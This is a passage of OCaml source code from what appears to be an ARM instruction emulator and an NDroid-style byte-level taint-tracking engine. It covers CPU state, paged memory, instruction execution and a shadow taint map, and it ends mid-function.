    Sentinel [-1] means "none" for {!field-r_branch_to} and {!field-r_svc}
    (branch targets and SVC immediates are always non-negative). *)
type run = {
  mutable r_executed : bool;
  mutable r_branch_to : int;
  mutable r_is_call : bool;
  mutable r_svc : int;
}

val run_create : unit -> run
(** A fresh result record; the trace loop makes one and reuses it forever. *)

val step_into : run -> Cpu.t -> Memory.t -> addr:int -> Insn.t -> int -> unit
(** [step_into out cpu mem ~addr insn size] is {!step_decoded} writing into
    the caller-owned [out] instead of allocating a {!type-step}: every field
    of [out] is overwritten.  Callers that may re-enter the executor from an
    event listener must copy what they need out of [out] before emitting. *)
