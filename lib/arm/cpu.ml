type mode = Arm | Thumb

type t = {
  regs : int array;
  mutable n : bool;
  mutable z : bool;
  mutable c : bool;
  mutable v : bool;
  mutable mode : mode;
  vfp_s : float array;
  vfp_d : float array;
}

let mask32 = 0xFFFFFFFF

let create () =
  { regs = Array.make 16 0;
    n = false;
    z = false;
    c = false;
    v = false;
    mode = Arm;
    vfp_s = Array.make 32 0.0;
    vfp_d = Array.make 16 0.0 }

(* Reads skip masking: every write path masks, so stored values are always
   already in [0, 2^32). *)
let reg cpu i = cpu.regs.(i)
let set_reg cpu i v = cpu.regs.(i) <- v land mask32
let pc cpu = reg cpu 15
let set_pc cpu v = set_reg cpu 15 v
let sp cpu = reg cpu 13
let set_sp cpu v = set_reg cpu 13 v
let lr cpu = reg cpu 14

let set_nz cpu result =
  cpu.n <- result land 0x80000000 <> 0;
  cpu.z <- result land mask32 = 0

let cond_passed cpu = function
  | Insn.EQ -> cpu.z
  | Insn.NE -> not cpu.z
  | Insn.CS -> cpu.c
  | Insn.CC -> not cpu.c
  | Insn.MI -> cpu.n
  | Insn.PL -> not cpu.n
  | Insn.VS -> cpu.v
  | Insn.VC -> not cpu.v
  | Insn.HI -> cpu.c && not cpu.z
  | Insn.LS -> (not cpu.c) || cpu.z
  | Insn.GE -> cpu.n = cpu.v
  | Insn.LT -> cpu.n <> cpu.v
  | Insn.GT -> (not cpu.z) && cpu.n = cpu.v
  | Insn.LE -> cpu.z || cpu.n <> cpu.v
  | Insn.AL -> true

let copy cpu =
  { cpu with
    regs = Array.copy cpu.regs;
    vfp_s = Array.copy cpu.vfp_s;
    vfp_d = Array.copy cpu.vfp_d }

let reset cpu =
  Array.fill cpu.regs 0 16 0;
  cpu.n <- false;
  cpu.z <- false;
  cpu.c <- false;
  cpu.v <- false;
  cpu.mode <- Arm;
  Array.fill cpu.vfp_s 0 32 0.0;
  Array.fill cpu.vfp_d 0 16 0.0

let pp ppf cpu =
  for i = 0 to 15 do
    Format.fprintf ppf "%a=0x%08x " Insn.pp_reg i (reg cpu i)
  done;
  Format.fprintf ppf "[%s%s%s%s] %s"
    (if cpu.n then "N" else "n")
    (if cpu.z then "Z" else "z")
    (if cpu.c then "C" else "c")
    (if cpu.v then "V" else "v")
    (match cpu.mode with Arm -> "ARM" | Thumb -> "Thumb")
