let page_bits = 12
let page_size = 1 lsl page_bits
let page_mask = page_size - 1

type t = {
  pages : (int, Bytes.t) Hashtbl.t;
  mutable last_key : int;  (* last-touched page cache; [no_key] = invalid *)
  mutable last_page : Bytes.t;
  (* code write-watch: translated/summarized code ranges.  [w_lo]/[w_hi]
     bound every watched byte so the store fast path pays two compares;
     a hit inside an actual range bumps [w_gen] (superblock validity) and
     notifies [w_notify] (per-library dirty marking for summaries). *)
  mutable w_lo : int;
  mutable w_hi : int;
  mutable w_ranges : (int * int) list;
  mutable w_gen : int;
  mutable w_notify : int -> unit;
}

let no_key = min_int

let create () =
  { pages = Hashtbl.create 64;
    last_key = no_key;
    last_page = Bytes.empty;
    w_lo = max_int;
    w_hi = min_int;
    w_ranges = [];
    w_gen = 0;
    w_notify = ignore }

let watch_code m ~lo ~hi =
  if hi >= lo then begin
    m.w_ranges <- (lo, hi) :: m.w_ranges;
    if lo < m.w_lo then m.w_lo <- lo;
    if hi > m.w_hi then m.w_hi <- hi
  end

let code_gen m = m.w_gen
let on_code_write m f = m.w_notify <- f

(* Slow path of the watch check: only reached for writes inside the global
   watched bounds, i.e. essentially only for writes into loaded library
   images (self-modifying / decrypting code, or stores into a library's
   embedded data words). *)
let watch_hit m addr len =
  if
    List.exists
      (fun (lo, hi) -> addr <= hi && addr + len - 1 >= lo)
      m.w_ranges
  then begin
    m.w_gen <- m.w_gen + 1;
    m.w_notify addr
  end

let[@inline] watch m addr len =
  if addr <= m.w_hi && addr + len - 1 >= m.w_lo then watch_hit m addr len

let page m addr =
  let key = addr lsr page_bits in
  if m.last_key = key then m.last_page
  else
    match Hashtbl.find_opt m.pages key with
    | Some p ->
      m.last_key <- key;
      m.last_page <- p;
      p
    | None ->
      let p = Bytes.make page_size '\000' in
      Hashtbl.replace m.pages key p;
      m.last_key <- key;
      m.last_page <- p;
      p

let norm addr = addr land 0xFFFFFFFF

let read_u8 m addr =
  let addr = norm addr in
  Char.code (Bytes.get (page m addr) (addr land page_mask))

let write_u8 m addr v =
  let addr = norm addr in
  watch m addr 1;
  Bytes.set (page m addr) (addr land page_mask) (Char.chr (v land 0xFF))

(* Word-wide fast paths: an access that falls inside one page is a single
   fixed-width little-endian Bytes read/write instead of per-byte loops with
   a page lookup each. *)

let read_u16 m addr =
  let a = norm addr in
  let off = a land page_mask in
  if off <= page_size - 2 then Bytes.get_uint16_le (page m a) off
  else read_u8 m addr lor (read_u8 m (addr + 1) lsl 8)

let read_u32 m addr =
  let a = norm addr in
  let off = a land page_mask in
  if off <= page_size - 4 then
    Int32.to_int (Bytes.get_int32_le (page m a) off) land 0xFFFFFFFF
  else
    read_u8 m addr
    lor (read_u8 m (addr + 1) lsl 8)
    lor (read_u8 m (addr + 2) lsl 16)
    lor (read_u8 m (addr + 3) lsl 24)

let write_u16 m addr v =
  let a = norm addr in
  let off = a land page_mask in
  watch m a 2;
  if off <= page_size - 2 then Bytes.set_uint16_le (page m a) off (v land 0xFFFF)
  else begin
    write_u8 m addr v;
    write_u8 m (addr + 1) (v lsr 8)
  end

let write_u32 m addr v =
  let a = norm addr in
  let off = a land page_mask in
  watch m a 4;
  if off <= page_size - 4 then Bytes.set_int32_le (page m a) off (Int32.of_int v)
  else begin
    write_u8 m addr v;
    write_u8 m (addr + 1) (v lsr 8);
    write_u8 m (addr + 2) (v lsr 16);
    write_u8 m (addr + 3) (v lsr 24)
  end

let read_bytes m addr n =
  let b = Bytes.create n in
  let pos = ref 0 in
  while !pos < n do
    let a = norm (addr + !pos) in
    let off = a land page_mask in
    let chunk = min (n - !pos) (page_size - off) in
    Bytes.blit (page m a) off b !pos chunk;
    pos := !pos + chunk
  done;
  b

let write_bytes m addr b =
  let n = Bytes.length b in
  if n > 0 then watch m (norm addr) n;
  let pos = ref 0 in
  while !pos < n do
    let a = norm (addr + !pos) in
    let off = a land page_mask in
    let chunk = min (n - !pos) (page_size - off) in
    Bytes.blit b !pos (page m a) off chunk;
    pos := !pos + chunk
  done

let write_string m addr s = write_bytes m addr (Bytes.of_string s)

let read_cstring m ?(max = 65536) addr =
  let buf = Buffer.create 32 in
  let rec loop i =
    if i >= max then Buffer.contents buf
    else
      let c = read_u8 m (addr + i) in
      if c = 0 then Buffer.contents buf
      else (
        Buffer.add_char buf (Char.chr c);
        loop (i + 1))
  in
  loop 0

let write_cstring m addr s =
  write_string m addr s;
  write_u8 m (addr + String.length s) 0

let read_f32 m addr = Int32.float_of_bits (Int32.of_int (read_u32 m addr))

let read_f64 m addr =
  let lo = Int64.of_int (read_u32 m addr)
  and hi = Int64.of_int (read_u32 m (addr + 4)) in
  Int64.float_of_bits (Int64.logor lo (Int64.shift_left hi 32))

let write_f32 m addr f =
  write_u32 m addr (Int32.to_int (Int32.bits_of_float f) land 0xFFFFFFFF)

let write_f64 m addr f =
  let bits = Int64.bits_of_float f in
  write_u32 m addr (Int64.to_int (Int64.logand bits 0xFFFFFFFFL));
  write_u32 m (addr + 4) (Int64.to_int (Int64.shift_right_logical bits 32))

let pages_touched m = Hashtbl.length m.pages

let clear m =
  Hashtbl.reset m.pages;
  m.last_key <- no_key;
  m.last_page <- Bytes.empty
