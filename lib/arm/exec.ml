exception Undefined of int * int

type step = {
  addr : int;
  insn : Insn.t;
  size : int;
  mode : Cpu.mode;
  executed : bool;
  branch : (int * int) option;
  is_call : bool;
  is_return : bool;
  svc : int option;
}

let mask32 = 0xFFFFFFFF

(* PC as read by an instruction's operands: two instructions ahead. *)
let pc_read mode addr =
  match mode with Cpu.Arm -> addr + 8 | Cpu.Thumb -> addr + 4

let read_op_reg cpu mode addr r =
  if r = 15 then pc_read mode addr land mask32 else Cpu.reg cpu r

(* Barrel shifter.  Returns (value, carry_out). *)
let shifted value kind amount carry_in =
  let value = value land mask32 in
  match (kind, amount) with
  | _, 0 -> (value, carry_in)
  | Insn.LSL, n when n < 32 ->
    ((value lsl n) land mask32, value land (1 lsl (32 - n)) <> 0)
  | Insn.LSL, 32 -> (0, value land 1 <> 0)
  | Insn.LSL, _ -> (0, false)
  | Insn.LSR, n when n < 32 -> (value lsr n, value land (1 lsl (n - 1)) <> 0)
  | Insn.LSR, 32 -> (0, value land 0x80000000 <> 0)
  | Insn.LSR, _ -> (0, false)
  | Insn.ASR, n when n < 32 ->
    let sign = value land 0x80000000 <> 0 in
    let v = value lsr n in
    let v = if sign then v lor (mask32 lsl (32 - n)) land mask32 else v in
    (v land mask32, value land (1 lsl (n - 1)) <> 0)
  | Insn.ASR, _ ->
    let sign = value land 0x80000000 <> 0 in
    ((if sign then mask32 else 0), sign)
  | Insn.ROR, n ->
    let n = n land 31 in
    if n = 0 then (value, value land 0x80000000 <> 0)
    else
      let v = ((value lsr n) lor (value lsl (32 - n))) land mask32 in
      (v, v land 0x80000000 <> 0)

(* Evaluate a flexible operand2.  Immediate shift of 0 for LSR/ASR means 32
   in the architecture; the assembler never emits those so we treat literal
   AST values directly. *)
let eval_op2 cpu mode addr op2 =
  match op2 with
  | Insn.Imm v -> (v land mask32, cpu.Cpu.c)
  | Insn.Reg r -> (read_op_reg cpu mode addr r, cpu.Cpu.c)
  | Insn.Reg_shift_imm (r, kind, amount) ->
    shifted (read_op_reg cpu mode addr r) kind amount cpu.Cpu.c
  | Insn.Reg_shift_reg (r, kind, rs) ->
    let amount = Cpu.reg cpu rs land 0xFF in
    shifted (read_op_reg cpu mode addr r) kind amount cpu.Cpu.c

let signed32 v = if v land 0x80000000 <> 0 then v - 0x100000000 else v

let add_with_carry a b carry_in =
  let a = a land mask32 and b = b land mask32 in
  let cin = if carry_in then 1 else 0 in
  let unsigned = a + b + cin in
  let result = unsigned land mask32 in
  let carry = unsigned > mask32 in
  let signed = signed32 a + signed32 b + cin in
  let overflow = signed <> signed32 result in
  (result, carry, overflow)

(* Per-step execution result.  The machine's trace loop reuses one [run]
   across steps, so a step allocates nothing; -1 means "none". *)
type run = {
  mutable r_executed : bool;
  mutable r_branch_to : int;
  mutable r_is_call : bool;
  mutable r_svc : int;
}

let run_create () =
  { r_executed = false; r_branch_to = -1; r_is_call = false; r_svc = -1 }

let interwork cpu target =
  if target land 1 = 1 then (
    cpu.Cpu.mode <- Cpu.Thumb;
    target land lnot 1)
  else (
    cpu.Cpu.mode <- Cpu.Arm;
    target land lnot 3)

let exec_dp cpu mode addr (out : run) op s rd rn op2 =
  let rn_v = read_op_reg cpu mode addr rn in
  let op2_v, shifter_c = eval_op2 cpu mode addr op2 in
  let logical result =
    if s then (
      Cpu.set_nz cpu result;
      cpu.Cpu.c <- shifter_c);
    Some result
  in
  let arith result carry overflow =
    if s then (
      Cpu.set_nz cpu result;
      cpu.Cpu.c <- carry;
      cpu.Cpu.v <- overflow);
    Some result
  in
  let result =
    match op with
    | Insn.AND -> logical (rn_v land op2_v)
    | Insn.EOR -> logical (rn_v lxor op2_v)
    | Insn.ORR -> logical (rn_v lor op2_v)
    | Insn.BIC -> logical (rn_v land lnot op2_v land mask32)
    | Insn.MOV -> logical op2_v
    | Insn.MVN -> logical (lnot op2_v land mask32)
    | Insn.SUB ->
      let r, c, v = add_with_carry rn_v (lnot op2_v land mask32) true in
      arith r c v
    | Insn.RSB ->
      let r, c, v = add_with_carry op2_v (lnot rn_v land mask32) true in
      arith r c v
    | Insn.ADD ->
      let r, c, v = add_with_carry rn_v op2_v false in
      arith r c v
    | Insn.ADC ->
      let r, c, v = add_with_carry rn_v op2_v cpu.Cpu.c in
      arith r c v
    | Insn.SBC ->
      let r, c, v = add_with_carry rn_v (lnot op2_v land mask32) cpu.Cpu.c in
      arith r c v
    | Insn.RSC ->
      let r, c, v = add_with_carry op2_v (lnot rn_v land mask32) cpu.Cpu.c in
      arith r c v
    | Insn.TST ->
      let r = rn_v land op2_v in
      Cpu.set_nz cpu r;
      cpu.Cpu.c <- shifter_c;
      None
    | Insn.TEQ ->
      let r = rn_v lxor op2_v in
      Cpu.set_nz cpu r;
      cpu.Cpu.c <- shifter_c;
      None
    | Insn.CMP ->
      let r, c, v = add_with_carry rn_v (lnot op2_v land mask32) true in
      Cpu.set_nz cpu r;
      cpu.Cpu.c <- c;
      cpu.Cpu.v <- v;
      None
    | Insn.CMN ->
      let r, c, v = add_with_carry rn_v op2_v false in
      Cpu.set_nz cpu r;
      cpu.Cpu.c <- c;
      cpu.Cpu.v <- v;
      None
  in
  match result with
  | None -> ()
  | Some r ->
    if rd = 15 then out.r_branch_to <- interwork cpu r
    else Cpu.set_reg cpu rd r

let mem_offset_value cpu mode addr = function
  | Insn.Off_imm v -> v
  | Insn.Off_reg (up, rm, kind, amount) ->
    let v, _ = shifted (read_op_reg cpu mode addr rm) kind amount false in
    if up then v else -v

let exec_mem cpu mem mode addr (out : run) ~load ~width ~rd ~rn ~offset ~pre
    ~writeback =
  let base = read_op_reg cpu mode addr rn in
  let off = mem_offset_value cpu mode addr offset in
  let access_addr = if pre then (base + off) land mask32 else base in
  if load then (
    let v =
      match width with
      | Insn.Word -> Memory.read_u32 mem access_addr
      | Insn.Byte -> Memory.read_u8 mem access_addr
      | Insn.Half -> Memory.read_u16 mem access_addr
    in
    if rd = 15 then out.r_branch_to <- interwork cpu v
    else Cpu.set_reg cpu rd v)
  else begin
    let v = read_op_reg cpu mode addr rd in
    match width with
    | Insn.Word -> Memory.write_u32 mem access_addr v
    | Insn.Byte -> Memory.write_u8 mem access_addr v
    | Insn.Half -> Memory.write_u16 mem access_addr v
  end;
  if (not pre) || writeback then
    if not (load && rd = rn) then Cpu.set_reg cpu rn ((base + off) land mask32)

(* Population count of a 16-bit register mask: LDM/STM register count. *)
let popcount16 mask =
  let rec go m acc = if m = 0 then acc else go (m land (m - 1)) (acc + 1) in
  go (mask land 0xFFFF) 0

let exec_block cpu mem (out : run) ~load ~rn ~mode:bmode ~writeback ~regs =
  let base = Cpu.reg cpu rn in
  let count = popcount16 regs in
  let start =
    match bmode with
    | Insn.IA -> base
    | Insn.IB -> base + 4
    | Insn.DA -> base - (4 * count) + 4
    | Insn.DB -> base - (4 * count)
  in
  let final =
    match bmode with
    | Insn.IA | Insn.IB -> base + (4 * count)
    | Insn.DA | Insn.DB -> base - (4 * count)
  in
  (* walk mask bits lowest-register-first; no register list is built *)
  let addr = ref start in
  for r = 0 to 15 do
    if regs land (1 lsl r) <> 0 then begin
      if load then (
        let v = Memory.read_u32 mem (!addr land mask32) in
        if r = 15 then out.r_branch_to <- interwork cpu v
        else Cpu.set_reg cpu r v)
      else Memory.write_u32 mem (!addr land mask32) (Cpu.reg cpu r);
      addr := !addr + 4
    end
  done;
  if writeback && not (load && regs land (1 lsl rn) <> 0) then
    Cpu.set_reg cpu rn (final land mask32)

let exec_vfp cpu mem mode addr (out : run) insn =
  ignore out;
  match insn with
  | Insn.Vdp { op; prec; vd; vn; vm; _ } ->
    let f a b =
      match op with
      | Insn.VADD -> a +. b
      | Insn.VSUB -> a -. b
      | Insn.VMUL -> a *. b
      | Insn.VDIV -> a /. b
    in
    (match prec with
     | Insn.F32 ->
       let r = f cpu.Cpu.vfp_s.(vn) cpu.Cpu.vfp_s.(vm) in
       cpu.Cpu.vfp_s.(vd) <- Int32.float_of_bits (Int32.bits_of_float r)
     | Insn.F64 -> cpu.Cpu.vfp_d.(vd) <- f cpu.Cpu.vfp_d.(vn) cpu.Cpu.vfp_d.(vm))
  | Insn.Vmem { load; prec; vd; rn; offset; _ } ->
    let a = (read_op_reg cpu mode addr rn + offset) land mask32 in
    (match (load, prec) with
     | true, Insn.F32 -> cpu.Cpu.vfp_s.(vd) <- Memory.read_f32 mem a
     | true, Insn.F64 -> cpu.Cpu.vfp_d.(vd) <- Memory.read_f64 mem a
     | false, Insn.F32 -> Memory.write_f32 mem a cpu.Cpu.vfp_s.(vd)
     | false, Insn.F64 -> Memory.write_f64 mem a cpu.Cpu.vfp_d.(vd))
  | Insn.Vmov_core { to_core; rt; sn; _ } ->
    if to_core then
      Cpu.set_reg cpu rt
        (Int32.to_int (Int32.bits_of_float cpu.Cpu.vfp_s.(sn)) land mask32)
    else
      cpu.Cpu.vfp_s.(sn) <-
        Int32.float_of_bits (Int32.of_int (Cpu.reg cpu rt))
  | Insn.Vcvt { to_double; vd; vm; _ } ->
    if to_double then cpu.Cpu.vfp_d.(vd) <- cpu.Cpu.vfp_s.(vm)
    else
      cpu.Cpu.vfp_s.(vd) <-
        Int32.float_of_bits (Int32.bits_of_float cpu.Cpu.vfp_d.(vm))
  | Insn.Vcvt_int { to_float; prec; vd; vm; _ } ->
    if to_float then (
      (* source: signed int bits held in s[vm] *)
      let bits = Int32.bits_of_float cpu.Cpu.vfp_s.(vm) in
      let i = Int32.to_int bits in
      match prec with
      | Insn.F32 -> cpu.Cpu.vfp_s.(vd) <- float_of_int i
      | Insn.F64 -> cpu.Cpu.vfp_d.(vd) <- float_of_int i)
    else
      let src =
        match prec with Insn.F32 -> cpu.Cpu.vfp_s.(vm) | Insn.F64 -> cpu.Cpu.vfp_d.(vm)
      in
      let i = Int32.of_float src in
      cpu.Cpu.vfp_s.(vd) <- Int32.float_of_bits i
  | _ -> assert false

let decode_at cpu mem addr =
  match cpu.Cpu.mode with
  | Cpu.Arm -> (
    let word = Memory.read_u32 mem addr in
    match Decode.decode word with
    | Some insn -> (insn, 4)
    | None -> raise (Undefined (addr, word)))
  | Cpu.Thumb -> (
    let half = Memory.read_u16 mem addr in
    let next = Some (Memory.read_u16 mem (addr + 2)) in
    match Thumb.decode half next with
    | Some (insn, size) -> (insn, size)
    | None -> raise (Undefined (addr, half)))

let fetch_decode ?icache cpu mem addr =
  match icache with
  | Some c ->
    if Icache.probe c addr then Icache.cached c addr
    else begin
      let entry = decode_at cpu mem addr in
      Icache.store c addr entry;
      entry
    end
  | None -> decode_at cpu mem addr

let is_return_insn insn =
  match insn with
  | Insn.Bx { link = false; rm = 14; _ } -> true
  | Insn.Block { load = true; regs; _ } when regs land 0x8000 <> 0 -> true
  | Insn.Dp { op = Insn.MOV; rd = 15; op2 = Insn.Reg 14; _ } -> true
  | _ -> false

(* Execute an already-decoded instruction fetched from [addr], writing the
   result into the caller-owned [out] record.  The machine's trace loop
   decodes once, shares the result between its instruction listeners and
   execution, and reuses a single [run] so the hot path allocates nothing. *)
let step_into (out : run) cpu mem ~addr insn size =
  let mode = cpu.Cpu.mode in
  let executed = Cpu.cond_passed cpu (Insn.cond_of insn) in
  (* Fall-through PC first; execution may override it. *)
  Cpu.set_pc cpu (addr + size);
  out.r_executed <- executed;
  out.r_branch_to <- -1;
  out.r_is_call <- false;
  out.r_svc <- -1;
  if executed then begin
    match insn with
    | Insn.Dp { op; s; rd; rn; op2; _ } -> exec_dp cpu mode addr out op s rd rn op2
    | Insn.Mul { s; rd; rm; rs; _ } ->
      let r = Cpu.reg cpu rm * Cpu.reg cpu rs land mask32 in
      let r = r land mask32 in
      Cpu.set_reg cpu rd r;
      if s then Cpu.set_nz cpu r
    | Insn.Mla { s; rd; rm; rs; rn; _ } ->
      let r = ((Cpu.reg cpu rm * Cpu.reg cpu rs) + Cpu.reg cpu rn) land mask32 in
      Cpu.set_reg cpu rd r;
      if s then Cpu.set_nz cpu r
    | Insn.Mull { signed; s; rdlo; rdhi; rm; rs; _ } ->
      let to64 v =
        if signed && v land 0x80000000 <> 0 then
          Int64.of_int (v - 0x100000000)
        else Int64.of_int v
      in
      let product = Int64.mul (to64 (Cpu.reg cpu rm)) (to64 (Cpu.reg cpu rs)) in
      let lo = Int64.to_int (Int64.logand product 0xFFFFFFFFL) in
      let hi = Int64.to_int (Int64.logand (Int64.shift_right_logical product 32) 0xFFFFFFFFL) in
      Cpu.set_reg cpu rdlo lo;
      Cpu.set_reg cpu rdhi hi;
      if s then begin
        cpu.Cpu.n <- hi land 0x80000000 <> 0;
        cpu.Cpu.z <- lo = 0 && hi = 0
      end
    | Insn.Clz { rd; rm; _ } ->
      let v = Cpu.reg cpu rm in
      let rec count i = if i < 0 then 32 else if v land (1 lsl i) <> 0 then 31 - i else count (i - 1) in
      Cpu.set_reg cpu rd (count 31)
    | Insn.Mem { load; width; rd; rn; offset; pre; writeback; _ } ->
      exec_mem cpu mem mode addr out ~load ~width ~rd ~rn ~offset ~pre ~writeback
    | Insn.Block { load; rn; mode = bmode; writeback; regs; _ } ->
      exec_block cpu mem out ~load ~rn ~mode:bmode ~writeback ~regs
    | Insn.B { link; offset; _ } ->
      let unit_size = match mode with Cpu.Arm -> 4 | Cpu.Thumb -> 2 in
      let target = (pc_read mode addr + (offset * unit_size)) land mask32 in
      if link then begin
        out.r_is_call <- true;
        let ret = addr + size in
        Cpu.set_reg cpu 14
          (match mode with Cpu.Arm -> ret | Cpu.Thumb -> ret lor 1)
      end;
      out.r_branch_to <- target
    | Insn.Bx { link; rm; _ } ->
      let target = read_op_reg cpu mode addr rm in
      if link then begin
        out.r_is_call <- true;
        let ret = addr + size in
        Cpu.set_reg cpu 14
          (match mode with Cpu.Arm -> ret | Cpu.Thumb -> ret lor 1)
      end;
      out.r_branch_to <- interwork cpu target
    | Insn.Svc { imm; _ } -> out.r_svc <- imm
    | Insn.Vdp _ | Insn.Vmem _ | Insn.Vmov_core _ | Insn.Vcvt _ | Insn.Vcvt_int _ ->
      exec_vfp cpu mem mode addr out insn
  end;
  if out.r_branch_to >= 0 then Cpu.set_pc cpu out.r_branch_to

(* Record-building variant for callers that want the full step summary. *)
let step_decoded cpu mem ~addr insn size =
  let mode = cpu.Cpu.mode in
  let out = run_create () in
  step_into out cpu mem ~addr insn size;
  { addr;
    insn;
    size;
    mode;
    executed = out.r_executed;
    branch =
      (if out.r_branch_to >= 0 then Some (addr, out.r_branch_to) else None);
    is_call = out.r_is_call;
    is_return = out.r_executed && is_return_insn insn;
    svc = (if out.r_svc >= 0 then Some out.r_svc else None) }

let step ?icache cpu mem =
  let addr = Cpu.pc cpu in
  let insn, size = fetch_decode ?icache cpu mem addr in
  step_decoded cpu mem ~addr insn size
