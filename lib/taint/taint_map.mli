(** Byte-granularity memory taint map over page-based shadow memory.

    NDroid's taint engine keeps "a taint map to store the memories' taints"
    with byte granularity (paper, Sec. V-E).  The store is a sparse page
    table of lazily allocated 4 KiB tag pages mirroring the guest memory's
    layout; an untainted address means {!Taint.clear}.  Every page carries a
    tainted-byte summary and the map a global total, so lookups against a
    fully clear map are O(1) and range operations over clear pages are
    O(pages), both allocation-free — the dominant cases in the
    per-instruction trace loop. *)

type t

val create : unit -> t
(** A fresh, empty map. *)

val get : t -> int -> Taint.t
(** [get m addr] is the taint of the byte at [addr] ({!Taint.clear} when the
    byte has never been tainted). *)

val set : t -> int -> Taint.t -> unit
(** [set m addr tag] replaces the byte's taint.  Setting {!Taint.clear}
    removes the entry. *)

val add : t -> int -> Taint.t -> unit
(** [add m addr tag] unions [tag] into the byte's existing taint
    (the "t(B) := t(B) OR t(A)" rule). *)

val get_range : t -> int -> int -> Taint.t
(** [get_range m addr n] is the union of the taints of the [n] bytes
    starting at [addr]. *)

val set_range : t -> int -> int -> Taint.t -> unit
(** [set_range m addr n tag] replaces the taint of [n] bytes. *)

val add_range : t -> int -> int -> Taint.t -> unit
(** [add_range m addr n tag] unions [tag] into [n] bytes. *)

val clear_range : t -> int -> int -> unit
(** [clear_range m addr n] removes the taint of [n] bytes. *)

val copy_range : t -> src:int -> dst:int -> len:int -> unit
(** [copy_range m ~src ~dst ~len] copies byte taints from [src..src+len-1] to
    [dst..]; this is what the modeled [memcpy] does (paper, Listing 3).
    Handles overlapping ranges like [memmove]. *)

val tainted_bytes : t -> int
(** Number of bytes currently carrying a non-clear taint. *)

val iter : t -> (int -> Taint.t -> unit) -> unit
(** Iterate over every tainted byte, in no particular order. *)

val reset : t -> unit
(** Remove every entry. *)
