(* Page-based shadow taint memory.

   The map mirrors the guest memory's page-granular layout: a hashtable of
   lazily allocated 4 KiB pages of taint tags.  Each page carries a [live]
   summary (count of tainted bytes) and the map carries a [total], so the
   dominant cases — lookups against a fully clear map, range operations over
   clear pages — cost O(1) / O(pages) instead of O(bytes) and never allocate.
   A one-entry last-touched-page cache turns the per-byte hashtable hit of
   the old per-byte map into an array access for the common
   same-page-as-last-time access pattern of the trace loop. *)

let page_bits = 12
let page_size = 1 lsl page_bits
let page_mask = page_size - 1

type page = {
  data : Taint.t array;
  mutable live : int;  (* tainted bytes in this page; 0 = page is all clear *)
}

type t = {
  pages : (int, page) Hashtbl.t;
  mutable total : int;  (* tainted bytes across all pages *)
  mutable last_key : int;
  mutable last_page : page;  (* valid iff [last_key <> no_key] *)
}

let no_key = min_int
let dummy_page = { data = [||]; live = 0 }

let create () =
  { pages = Hashtbl.create 64;
    total = 0;
    last_key = no_key;
    last_page = dummy_page }

(* Page lookup without creation; [dummy_page] stands for "absent" so the hot
   path stays allocation-free. *)
let find_page m key =
  if m.last_key = key then m.last_page
  else
    match Hashtbl.find_opt m.pages key with
    | Some p ->
      m.last_key <- key;
      m.last_page <- p;
      p
    | None -> dummy_page

let ensure_page m key =
  if m.last_key = key then m.last_page
  else
    match Hashtbl.find_opt m.pages key with
    | Some p ->
      m.last_key <- key;
      m.last_page <- p;
      p
    | None ->
      let p = { data = Array.make page_size Taint.clear; live = 0 } in
      Hashtbl.replace m.pages key p;
      m.last_key <- key;
      m.last_page <- p;
      p

(* Write one byte of an existing page, maintaining both summaries. *)
let set_in_page m p off tag =
  let old = p.data.(off) in
  if not (Taint.equal old tag) then begin
    p.data.(off) <- tag;
    if Taint.is_clear old then begin
      p.live <- p.live + 1;
      m.total <- m.total + 1
    end
    else if Taint.is_clear tag then begin
      p.live <- p.live - 1;
      m.total <- m.total - 1
    end
  end

let get m addr =
  if m.total = 0 then Taint.clear
  else
    let p = find_page m (addr asr page_bits) in
    if p.live = 0 then Taint.clear else p.data.(addr land page_mask)

let set m addr tag =
  if Taint.is_clear tag then begin
    if m.total > 0 then
      let p = find_page m (addr asr page_bits) in
      if p.live > 0 then set_in_page m p (addr land page_mask) tag
  end
  else set_in_page m (ensure_page m (addr asr page_bits)) (addr land page_mask) tag

let add m addr tag =
  if Taint.is_tainted tag then
    let p = ensure_page m (addr asr page_bits) in
    let off = addr land page_mask in
    set_in_page m p off (Taint.union p.data.(off) tag)

(* Walk [addr, addr+n) page chunk by page chunk. *)
let iter_chunks addr n f =
  let pos = ref addr and remaining = ref n in
  while !remaining > 0 do
    let off = !pos land page_mask in
    let chunk = min !remaining (page_size - off) in
    f (!pos asr page_bits) off chunk;
    pos := !pos + chunk;
    remaining := !remaining - chunk
  done

(* The range operations special-case a range that stays within one page —
   the overwhelmingly common shape (1/2/4/8-byte accesses from the trace
   loop) — as straight-line code: no closure is built and the accumulator
   ref stays a local the compiler keeps in a register. *)

let get_range m addr n =
  if m.total = 0 || n <= 0 then Taint.clear
  else begin
    let off = addr land page_mask in
    if off + n <= page_size then begin
      let p = find_page m (addr asr page_bits) in
      if p.live = 0 then Taint.clear
      else begin
        let acc = ref Taint.clear in
        for i = off to off + n - 1 do
          acc := Taint.union !acc p.data.(i)
        done;
        !acc
      end
    end
    else begin
      let acc = ref Taint.clear in
      iter_chunks addr n (fun key off chunk ->
          let p = find_page m key in
          if p.live > 0 then
            for i = off to off + chunk - 1 do
              acc := Taint.union !acc p.data.(i)
            done);
      !acc
    end
  end

let clear_in_page m p off chunk =
  if p.live > 0 then
    for i = off to off + chunk - 1 do
      if Taint.is_tainted p.data.(i) then begin
        p.data.(i) <- Taint.clear;
        p.live <- p.live - 1;
        m.total <- m.total - 1
      end
    done

let clear_range m addr n =
  if m.total > 0 && n > 0 then begin
    let off = addr land page_mask in
    if off + n <= page_size then
      clear_in_page m (find_page m (addr asr page_bits)) off n
    else
      iter_chunks addr n (fun key off chunk ->
          clear_in_page m (find_page m key) off chunk)
  end

let set_range m addr n tag =
  if Taint.is_clear tag then clear_range m addr n
  else if n > 0 then begin
    let off = addr land page_mask in
    if off + n <= page_size then begin
      let p = ensure_page m (addr asr page_bits) in
      for i = off to off + n - 1 do
        set_in_page m p i tag
      done
    end
    else
      iter_chunks addr n (fun key off chunk ->
          let p = ensure_page m key in
          for i = off to off + chunk - 1 do
            set_in_page m p i tag
          done)
  end

let add_range m addr n tag =
  if Taint.is_tainted tag && n > 0 then begin
    let off = addr land page_mask in
    if off + n <= page_size then begin
      let p = ensure_page m (addr asr page_bits) in
      for i = off to off + n - 1 do
        set_in_page m p i (Taint.union p.data.(i) tag)
      done
    end
    else
      iter_chunks addr n (fun key off chunk ->
          let p = ensure_page m key in
          for i = off to off + chunk - 1 do
            set_in_page m p i (Taint.union p.data.(i) tag)
          done)
  end

(* Any tainted byte in [addr, addr+n)?  Page summaries only — a live page
   makes the answer a conservative [true] without scanning bytes. *)
let range_maybe_tainted m addr n =
  if m.total = 0 || n <= 0 then false
  else begin
    let found = ref false in
